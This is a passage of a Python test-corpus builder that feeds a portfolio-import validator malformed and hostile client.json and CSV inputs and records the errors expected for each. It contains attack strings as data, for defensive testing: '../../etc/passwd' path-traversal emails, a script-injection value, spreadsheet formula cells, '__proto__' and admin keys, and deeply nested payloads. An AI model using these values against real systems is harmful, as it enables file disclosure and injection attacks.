        add("path traversal", setup.replace("_", " "), setup=setup, expected=e(file, words))
    add("path traversal", "email with ../", client_json=client(email="../../etc/passwd@example.com"),
        expected=e(CLIENT, "drop folder name", None, "email"))
    add("path traversal", "email with absolute path", client_json=client(email="/etc/passwd@example.com"),
        expected=e(CLIENT, "drop folder name", None, "email"))
    add("path traversal", "folder name with Kelvin sign", folder_name="\u212a" + "ate@example.com",
        client_json=client(email="kate@example.com"), expected=e(CLIENT, "drop folder name", None, "email"))
    add("path traversal", "folder name with a trailing newline", folder_name=EMAIL + "\n",
        expected=e(CLIENT, "drop folder name", None, "email"))
    add("path traversal", "upper-case folder name is fine", folder_name=EMAIL.upper(), verbatim=(("email", EMAIL),))

    # --- oversize --------------------------------------------------------------------------
    many = [row(f"S{i}") for i in range(MAX_BYTES // 40)]
    add("oversize", "portfolio.csv over the byte limit", portfolio_csv=portfolio(*many), expected=e(CSV, "the limit is", None))
    add("oversize", "client.json over the byte limit", client_json=client(portfolio_description="x" * 10) + b" " * MAX_BYTES,
        expected=e(CLIENT, "the limit is", None))
    add("oversize", "one row over the row limit", portfolio_csv=portfolio(*[row(f"S{i}") for i in range(MAX_ROWS + 1)]),
        expected=e(CSV, f"has {MAX_ROWS + 1} rows", None))
    add("oversize", "exactly the row limit is fine", portfolio_csv=portfolio(*[row(f"S{i}") for i in range(MAX_ROWS)]),
        verbatim=(("rows", MAX_ROWS),))
    for col in ("symbol", "quantity", "tags", "entry_date", "strike_price"):
        add("oversize", f"{col} over the field limit", portfolio_csv=portfolio(row(**{col: "9" * (MAX_FIELD + 1)})),
            expected=e(CSV, f"longer than {MAX_FIELD} characters", 2, col))
    add("oversize", "tag over 50 characters (tags.name is VARCHAR(50))", portfolio_csv=portfolio(row(tags="ok," + "t" * 51)),
        expected=e(CSV, "at most 50", 2, "tags"))
    add("oversize", "field beyond the csv module limit", portfolio_csv=portfolio(row(tags="x" * 140_000)),
        expected=e(CSV, "not a readable CSV", 2))
    add("oversize", "unbalanced quote swallowing the file", portfolio_csv=(HEADER + '\nAAPL,100,150,LONG,2024-01-15,"Core,,,\n'
                                                                            + "MSFT,1,1,LONG,2024-01-15,,,,\n" * 3).encode(),
        expected=e(CSV, "unbalanced double quote", 2))
    for col, size, words in (("full_name", MAX_FIELD + 1, f"longer than {MAX_FIELD}"), ("portfolio_name", 256, "longer than 255"),
                             ("full_name", 256, "longer than 255"), ("portfolio_description", MAX_FIELD + 1, f"longer than {MAX_FIELD}")):
        add("oversize", f"{col} of {size} characters", client_json=client(**{col: "n" * size}), expected=e(CLIENT, words, None, col))
    add("oversize", "huge unknown key", client_json=client(**{"k" * 5000: "v"}), expected=e(CLIENT, "unknown key", None, "k" * 60))
    add("oversize", "huge email", client_json=client(email="a" * 5000 + "@example.com"), expected=e(CLIENT, "drop folder name", None, "email"))
    add("oversize", "huge password", client_json=client(password="P4ss-" * 2000), expected=e(CLIENT, "72 bytes", None, "password"))
    add("oversize", "5000-digit number", client_json=client(currency=...)[:-1] + b', "currency": ' + b"9" * 5000 + b"}",
        expected=e(CLIENT, "not valid JSON", None))
    add("oversize", "deeply nested array", client_json=b"[" * 100_000 + b"]" * 100_000, expected=e(CLIENT, "nested too deeply", None))
    add("oversize", "deeply nested object value", client_json=client(currency=...)[:-1] + b', "currency": ' + b'{"a":' * 20_000
        + b"1" + b"}" * 20_001, expected=e(CLIENT, "nested too deeply", None))

    # --- encoding and binary content -------------------------------------------------------
    good_text = GOOD_CSV.decode()
    for name, data in (
        ("latin-1", portfolio(row(tags="Café")).decode().encode("latin-1")),
        ("cp1252 smart quotes", portfolio(row(tags="“Core”")).decode().encode("cp1252")),
        ("overlong slash", GOOD_CSV + b"\xc0\xaf\n"),
        ("encoded surrogate", GOOD_CSV.replace(b"Core", b"C\xed\xa0\x80re")),
        ("truncated sequence at end", GOOD_CSV + b"\xe2\x82"),
        ("PDF", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"),
        ("lone continuation byte", GOOD_CSV.replace(b"Core", b"\x80Core")),
    ):
        add("encoding", f"portfolio.csv {name}", portfolio_csv=data, expected=e(CSV, "not valid UTF-8", None))
    for name, data in (
        ("UTF-16 LE with BOM", good_text.encode("utf-16")), ("UTF-16 BE with BOM", b"\xfe\xff" + good_text.encode("utf-16-be")),
        ("UTF-32", good_text.encode("utf-32")), ("NUL in a cell", GOOD_CSV.replace(b"Core", b"Co\0re")),
        ("PNG", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"), ("gzip", b"\x1f\x8b\x08\0\0\0\0\0\0\x03"),
        ("xlsx (zip)", b"PK\x03\x04\x14\0\x06\0\x08\0\0\0!\0"), ("single NUL", b"\0"),
    ):
        add("encoding", f"portfolio.csv {name}", portfolio_csv=data, expected=e(CSV, "binary", None))
    for name, data, words in (
        ("latin-1", client(full_name="José").decode("unicode_escape").encode("latin-1"), "not valid UTF-8"),
        ("UTF-16", GOOD_CLIENT_JSON.decode().encode("utf-16"), "binary"), ("PNG", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "binary"),
        ("empty", b"", "is empty"), ("whitespace", b" \n\t\r\n", "is empty"), ("BOM only", b"\xef\xbb\xbf", "is empty"),
    ):
        add("encoding", f"client.json {name}", client_json=data, expected=e(CLIENT, words, None))
    for name, data in (("empty", b""), ("whitespace", b"  \r\n\n"), ("BOM only", b"\xef\xbb\xbf")):
        add("encoding", f"portfolio.csv {name}", portfolio_csv=data, expected=e(CSV, "is empty", None))
    for name, cell in (("BEL", "Co\x07re"), ("ESC sequence", "\x1b[31mred"), ("DEL", "Core\x7fX"), ("NEL (C1)", "Core\x85X"),
                       ("vertical tab", "Co\x0bre"), ("newline", "a\nb"), ("backspace", "a\x08b")):
        add("encoding", f"control character {name} in tags", portfolio_csv=portfolio(row(tags=cell)),
            expected=e(CSV, "control characters", 2, "tags"))
    add("encoding", "quoted carriage return in tags", portfolio_csv=(HEADER + '\nAAPL,100,150,LONG,2024-01-15,"a\rb",,,\n').encode(),
        expected=e(CSV, "control characters", 2, "tags"))
    add("encoding", "bare carriage return splits a row", portfolio_csv=(HEADER + "\nAAPL,100,150,LONG,2024-01-15,a\rb,,,\n").encode(),
        expected=(e(CSV, "has 6 fields", 2, None), e(CSV, "has 4 fields", 3, None)))
    add("encoding", "control character in symbol", portfolio_csv=portfolio(row(symbol="AA\x0cPL")),
        expected=e(CSV, "control characters", 2, "symbol"))
    add("encoding", "double BOM", portfolio_csv=b"\xef\xbb\xbf" + GOOD_CSV.replace(b"symbol", b"\xef\xbb\xbfsymbol", 1),
        expected=e(CSV, "unexpected column", 1, "\ufeffsymbol"))
    add("encoding", "multi-line quoted field shifts the following lines", portfolio_csv=portfolio(
        row(tags="a\nb"), row("MSFT", "x")), expected=(e(CSV, "control characters", 2, "tags"), e(CSV, "plain number", 4, "quantity")))
    add("encoding", "blank lines count as lines", portfolio_csv=(HEADER + "\n\nAAPL,100,150,LONG,2024-01-15,,,,\n\n\nMSFT,x,1,LONG,2024-01-15,,,,\n").encode(),
        expected=e(CSV, "plain number", 6, "quantity"))
    add("encoding", "old Mac line endings", portfolio_csv=portfolio(row(), row("MSFT", "x"), eol="\r"),
        expected=e(CSV, "plain number", 3, "quantity"))
    add("encoding", "BOM, CRLF and mixed line endings are fine",
        portfolio_csv=b"\xef\xbb\xbf" + (HEADER + "\r\nAAPL,100,150.25,LONG,2024-01-15,Core,,,\nMSFT,5,300,LONG,2024-01-15,,,,\r\n").encode(),
        verbatim=(("rows", 2),))
    add("encoding", "non-ASCII tags are fine", portfolio_csv=portfolio(row(tags="日本株,Ünïcödé,💼")),
        verbatim=(("tags:AAPL", ["日本株", "Ünïcödé", "💼"]),))

    # --- NaN / inf in client.json ----------------------------------------------------------
    for literal in (b"NaN", b"Infinity", b"-Infinity"):
        add("nan/inf", f"JSON {literal.decode()} literal", client_json=client(currency=...)[:-1] + b', "currency": ' + literal + b"}",
            expected=e(CLIENT, "not valid JSON", None))
    add("nan/inf", "JSON 1e999 (float inf)", client_json=client(currency=...)[:-1] + b', "currency": 1e999}',
        expected=e(CLIENT, "must be a string", None, "currency"))

    # --- client.json -----------------------------------------------------------------------
    for name, data in (("single quotes", b"{'email': 'client@example.com'}"), ("trailing comma", GOOD_CLIENT_JSON[:-1] + b",}"),
                       ("comment", b"// client\n" + GOOD_CLIENT_JSON), ("YAML", b"email: client@example.com\nfull_name: X\n"),
                       ("two objects", GOOD_CLIENT_JSON + GOOD_CLIENT_JSON), ("truncated", GOOD_CLIENT_JSON[:-10]),
                       ("unquoted keys", b"{email: 1}"), ("python literal", b"{'a': None}")):
        add("client.json", f"not JSON: {name}", client_json=data, expected=e(CLIENT, "not valid JSON", None))
    for name, data in (("array", json.dumps([GOOD_CLIENT]).encode()), ("string", b'"client@example.com"'), ("number", b"42"),
                       ("null", b"null"), ("true", b"true")):
        add("client.json", f"top level {name}", client_json=data, expected=e(CLIENT, "must be a JSON object", None))
    add("client.json", "empty object", client_json=b"{}",
        expected=(e(CLIENT, "required", None, "email"), e(CLIENT, "required", None, "full_name"),
                  e(CLIENT, "required", None, "portfolio_name"), e(CLIENT, "exactly one", None, "password")))
    for key in ("email", "full_name", "portfolio_name"):
        add("client.json", f"{key} nested object", client_json=client(**{key: {"first": "x"}}),
            expected=e(CLIENT, "non-empty string", None, key))
        add("client.json", f"{key} missing", client_json=client(**{key: ...}), expected=e(CLIENT, "required", None, key))
    for key, value in (("email", 42), ("full_name", 1.5), ("portfolio_name", 0), ("email", ["client@example.com"]),
                       ("full_name", True), ("portfolio_name", None)):
        add("client.json", f"{key} = {value!r}", client_json=client(**{key: value}), expected=e(CLIENT, "non-empty string", None, key))
    for key, value in (("portfolio_description", 7), ("portfolio_description", {"a": 1}), ("currency", 840),
                       ("password", 12345678), ("password_hash", 1), ("currency", ["USD"]), ("password", ["x"])):
        add("client.json", f"{key} = {value!r}", client_json=client(**{key: value}), expected=e(CLIENT, "must be a string", None, key))
    add("client.json", "duplicate key", client_json=GOOD_CLIENT_JSON[:-1] + b', "full_name": "Somebody Else"}',
        expected=e(CLIENT, "duplicate key", None, "full_name"))
    add("client.json", "duplicate email key", client_json=b'{"email": "evil@example.com", ' + GOOD_CLIENT_JSON[1:],
        expected=e(CLIENT, "duplicate key", None, "email"))
    for key in ("passwrod", "is_admin", "__proto__", "id", "", "Email", "hashed_password"):
        add("client.json", f"unknown key {key!r}", client_json=client(**{key: "x"}), expected=e(CLIENT, "unknown key", None, key))
    for value in ("not-an-email", "a@b", "a@@example.com", "a b@example.com", "client@example.com.", "client@-example.com",
                  "clïent@example.com", "<script>@example.com", "client@", "@example.com", "client@exa_mple.com"):
        add("client.json", f"bad email {value!r}", client_json=client(email=value), expected=e(CLIENT, "not a valid email", None, "email"))
    for value in ("other@example.com", "client@example.org", "client+1@example.com"):
        add("client.json", f"email {value!r} differs from the folder", client_json=client(email=value),
            expected=e(CLIENT, "drop folder name", None, "email"))
    add("client.json", "email case differs from folder (fine)", client_json=client(email="Client@Example.COM"),
        verbatim=(("email", EMAIL),))
    for name, overrides in (("both", {"password_hash": "$2b$12$" + "a" * 53}), ("neither", {"password": ...}),
                            ("both empty", {"password": "", "password_hash": ""}), ("both null", {"password": None, "password_hash": None})):
        add("client.json", f"password: {name}", client_json=client(**overrides), expected=e(CLIENT, "exactly one", None, "password"))
    for name, pw in (("73 ASCII bytes", "x" * 73), ("25 euro signs = 75 bytes", "€" * 25)):
        add("client.json", f"password of {name}", client_json=client(password=pw), expected=e(CLIENT, "72 bytes", None, "password"))
    for name, pw in (("NUL", "Correct\0Horse-9"), ("BEL", "Correct\x07Horse-9"), ("newline", "Correct\nHorse-9")):
        add("client.json", f"password with {name}", client_json=client(password=pw),
            expected=e(CLIENT, "control characters", None, "password"))
    for name, value in (("md5 hex", "5f4dcc3b5aa765d61d8327deb882cf99"), ("sha256 hex", "a" * 64),
                        ("argon2", "$argon2id$v=19$m=65536,t=3,p=4$c2FsdA$aGFzaA"), ("short bcrypt", "$2b$12$" + "a" * 52),
                        ("$2x$ prefix", "$2x$12$" + "a" * 53), ("md5-crypt", "$1$salt$hash"),
                        ("django pbkdf2", "pbkdf2_sha256$600000$salt$hash"), ("plaintext", "hunter2"),
                        ("bcrypt with trailing newline", "$2b$12$" + "a" * 53 + "\n")):
        add("client.json", f"password_hash {name}", client_json=client(password=..., password_hash=value),
            expected=e(CLIENT, "bcrypt", None, "password_hash"))
    # a real bcrypt hash (cost 4) of "Correct-Horse-Battery-9": bcrypt must accept it (issue 12: "$2b$12$" + "a" * 53 was refused)
    add("client.json", "valid bcrypt hash is fine",
        client_json=client(password=..., password_hash="$2b$04$eAtrtUUSo0ygfq7yqYZBnesOrlxOjPzXibG2AewXWUpXQ9Xq.RRBu"),
        verbatim=(("full_name", "Test Client"),))
    for name, pw, words in (("too short", "Sh0rt!pw", "at least 12"), ("one character class", "alllowercaseletters", "3 of"),
                            ("contains the email name", "Client-Password-123", "name part")):
        add("client.json", f"production password {name}", client_json=client(password=pw),
            env=(("SIGMASIGHT_ENV", "production"),), expected=e(CLIENT, words, None, "password"))
    add("client.json", "production strong password is fine", client_json=client(password="Str0ng!Passphrase-x"),
        env=(("SIGMASIGHT_ENV", "production"),), verbatim=(("full_name", "Test Client"),))
    for name, removed, raw in (("password", "password", b'"password": "\\ud800abcdefghijk"'),
                               ("full_name", "full_name", b'"full_name": "Test \\udfff"'),
                               ("unknown key", "currency", b'"\\ud83d": "x"')):
        add("client.json", f"lone surrogate in {name}", client_json=client(**{removed: ...})[:-1] + b", " + raw + b"}",
            expected=e(CLIENT, "lone surrogate", None))
    for col, value in (("full_name", "\x1b[2JCleared"), ("portfolio_name", "Port\x00folio"), ("portfolio_description", "a\x85b"),
                       ("full_name", "Line\nBreak")):
        add("client.json", f"control character in {col} {value!r}", client_json=client(**{col: value}),
            expected=e(CLIENT, "control characters", None, col))
    for value in ("XXX1", "EURO", "BTC", "$", "US"):
        add("client.json", f"currency {value!r}", client_json=client(currency=value), expected=e(CLIENT, "ISO 4217", None, "currency"))
    add("client.json", "lower-case currency is fine", client_json=client(currency=" eur "), verbatim=(("currency", "EUR"),))

    # --- combined: every problem is reported at once ---------------------------------------
    add("combined", "five bad rows", portfolio_csv=portfolio(
        row(), row("MSFT", "abc"), row("TSLA", "300", position_type="SHORT"), row("NVDA", entry_price="0"),
        row("=EVIL"), row("IBM", entry_date="2999-01-01")),
        expected=(e(CSV, "plain number", 3, "quantity"), e(CSV, "sign", 4, "quantity"), e(CSV, "greater than 0", 5, "entry_price"),
                  e(CSV, "ticker", 6, "symbol"), e(CSV, "future", 7, "entry_date")))
    add("combined", "every cell of one row bad", portfolio_csv=portfolio(row("A B", "1e3", "-1", "BUY", "2024-02-30", "t" * 51)),
        expected=(e(CSV, "ticker", 2, "symbol"), e(CSV, "plain number", 2, "quantity"), e(CSV, "greater than 0", 2, "entry_price"),
                  e(CSV, "must be one of", 2, "position_type"), e(CSV, "YYYY-MM-DD", 2, "entry_date"), e(CSV, "at most 50", 2, "tags")))
    add("combined", "four client.json problems", client_json=client(email="bad", full_name=..., currency="XYZ", admin=True),
        expected=(e(CLIENT, "not a valid email", None, "email"), e(CLIENT, "required", None, "full_name"),
                  e(CLIENT, "ISO 4217", None, "currency"), e(CLIENT, "unknown key", None, "admin")))
    add("combined", "both files bad", client_json=client(portfolio_name=...), portfolio_csv=portfolio(row(entry_date="24-01-15")),
        expected=(e(CLIENT, "required", None, "portfolio_name"), e(CSV, "YYYY-MM-DD", 2, "entry_date")))
    add("combined", "field count and bad number", portfolio_csv=portfolio(row()[:5], row("MSFT", "NaN"), row("IBM", "0")),
        expected=(e(CSV, "has 5 fields", 2, None), e(CSV, "plain number", 3, "quantity"), e(CSV, "zero", 4, "quantity")))
    add("combined", "control characters, sign and option rules", portfolio_csv=portfolio(
        row(tags="a\x07"), row("MSFT", "-5"), option(strike_price=""), option("QQQ250919C00400000", underlying_symbol="SPY",
                                                                             strike_price="400")),
        expected=(e(CSV, "control characters", 2, "tags"), e(CSV, "sign", 3, "quantity"), e(CSV, "need underlying_symbol", 4),
                  e(CSV, "agreeing with", 5, "symbol")))
    add("combined", "duplicate and missing headers", portfolio_csv=portfolio(row()[:8] + ["x"], header=HEADER.replace("expiration_date", "symbol")),
        expected=(e(CSV, "duplicate column header", 1, "symbol"), e(CSV, "required column is missing", 1, "expiration_date")))
    add("combined", "password problems together", client_json=client(password="x" * 80, password_hash="md5"),
        expected=(e(CLIENT, "exactly one", None, "password"), e(CLIENT, "bcrypt", None, "password_hash"),
                  e(CLIENT, "72 bytes", None, "password")))
    add("combined", "hostile text beside bad rows", client_json=client(full_name="<script>alert(1)</script>"),
        portfolio_csv=portfolio(row(tags="=SUM(A1)"), row("MSFT", "1,000")), expected=e(CSV, "plain number", 3, "quantity"))
    return cases


CORPUS: list[HostileCase] = build_corpus()


def by_category(cases: list[HostileCase] | None = None) -> dict[str, list[HostileCase]]:
    out: dict[str, list[HostileCase]] = {}
    for case in cases or CORPUS:
        out.setdefault(case.category, []).append(case)
    return out


if __name__ == "__main__":  # pragma: no cover - summary for humans
    for category, items in by_category().items():
        print(f"{category:20} {len(items)}")
    print(f"{'total':20} {len(CORPUS)}")
